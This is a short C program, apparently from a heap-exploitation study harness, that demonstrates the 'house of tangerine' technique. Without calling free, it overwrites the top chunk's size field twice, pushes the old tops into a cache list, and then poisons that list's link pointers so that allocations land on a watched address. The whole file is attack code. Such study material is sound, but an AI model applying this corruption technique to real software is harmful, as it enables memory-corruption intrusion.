/* Usage: house_of_tangerine SIZE
   Without any free: shrinks top twice, so that each old top would land in a
   cache's list, then poisons that list by the same overflow. */
#include "attack.h"

int main(int argc, char **argv)
{
    size_t n = size_arg(argv);
    watch(0, &in_data);
    for (int i = 0; i < 2; i++) {
        unsigned char *last = take_raw(n), *top = behind(last);
        uint32_t rest = (uint32_t)((4096 - (address(top) - 16) % 4096) % 4096);
        *size_word(top) = (rest + 4096) | 1;
        for (int j = 0; j < 20; j++)
            take(120000);
        links(top)[0] = links(top)[1] = address(&in_data.words[2]);
    }
    for (int i = 0; i < 100; i++)
        take(n);
    return settle();
}
